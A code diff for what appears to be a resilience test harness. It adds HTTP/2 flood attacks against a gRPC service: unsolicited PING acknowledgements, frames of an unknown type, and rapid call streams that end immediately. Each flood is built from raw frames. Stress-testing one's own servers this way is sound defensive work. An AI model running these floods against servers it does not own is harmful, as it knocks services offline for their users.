@@ -14,6 +14,7 @@ use super::target::{self, Attack};
 
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 const WATCH: &str = "/clearway.v1.MapService/Watch";
+const LIST: &str = "/clearway.v1.MapService/ListVehicles";
 const INGEST: &str = "/clearway.v1.IngestService/Stream";
 /// Setting INITIAL_WINDOW_SIZE.
 const WINDOW: u16 = 4;
@@ -33,6 +34,7 @@ mod kind {
 /// Flags of frames.
 mod flag {
     pub const ACK: u8 = 1;
+    pub const END_STREAM: u8 = 1;
     pub const END_HEADERS: u8 = 4;
 }
 
@@ -47,6 +49,9 @@ pub const ATTACKS: &[Attack] = &[
     Attack { name: "gRPC: flood of CONTINUATION", run: |target| flood(target.grpc, continuations).boxed() },
     Attack { name: "gRPC: flood of empty DATA", run: |target| flood(target.grpc, empty_data).boxed() },
     Attack { name: "gRPC: flood of PING", run: |target| flood(target.grpc, pings).boxed() },
+    Attack { name: "gRPC: flood of answers to no PING", run: |target| flood(target.grpc, answers).boxed() },
+    Attack { name: "gRPC: flood of unknown frames", run: |target| flood(target.grpc, unknown).boxed() },
+    Attack { name: "gRPC: flood of calls", run: |target| flood(target.grpc, calls).boxed() },
     Attack { name: "gRPC: flood of SETTINGS", run: |target| flood(target.grpc, settings).boxed() },
     Attack { name: "gRPC: claimed message sizes", run: |target| flood(target.grpc, claims).boxed() },
 ];
@@ -158,6 +163,22 @@ fn empty_data(round: u32) -> Vec<u8> {
 
 fn pings(round: u32) -> Vec<u8> {
     frame(kind::PING, 0, 0, &u64::from(round).to_be_bytes())
+}
+
+fn answers(_: u32) -> Vec<u8> {
+    frame(kind::PING, flag::ACK, 0, &[0; 8]).repeat(100)
+}
+
+/// Frames of a type that nobody knows.
+fn unknown(_: u32) -> Vec<u8> {
+    frame(77, 0, 0, &[0; 8]).repeat(100)
+}
+
+/// Calls that are answered at once, more than may be in progress.
+fn calls(round: u32) -> Vec<u8> {
+    let stream = 2 * (round % (1 << 30)) + 1;
+    let begin = frame(kind::HEADERS, flag::END_HEADERS, stream, &request(LIST));
+    [begin, frame(kind::DATA, flag::END_STREAM, stream, &message(0, b""))].concat()
 }
 
 fn settings(_: u32) -> Vec<u8> {
